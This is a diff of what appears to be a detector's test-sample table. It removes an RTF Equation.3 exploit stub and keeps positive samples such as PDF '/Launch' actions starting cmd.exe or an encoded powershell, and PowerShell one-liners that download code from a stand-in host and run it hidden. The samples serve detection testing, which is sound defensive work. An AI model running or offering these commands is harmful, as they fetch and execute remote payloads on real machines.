@@ -135,10 +135,6 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>", b"%PDF-1.4 <</S/Launch/Win<</F(powershell.exe)/P(-enc x)>>>>"],
         [b"%PDF-1.4 <</S /Launch /F (chapter2.pdf)>>", b"/Launch /F (cmd.exe)"],
     ),
-    "rtf_equation_exploit": (
-        [b"{\\rtf1{\\object\\objdata 0105000002000000" + b"Equation.3".hex().encode() + b"}}"],
-        [b"{\\rtf1{\\object\\objdata 01050000}}", b"{\\rtf1 Equation.3}"],
-    ),
     "powershell_download_and_run": (
         [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe; powershell -w hidden"],
         [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy"],
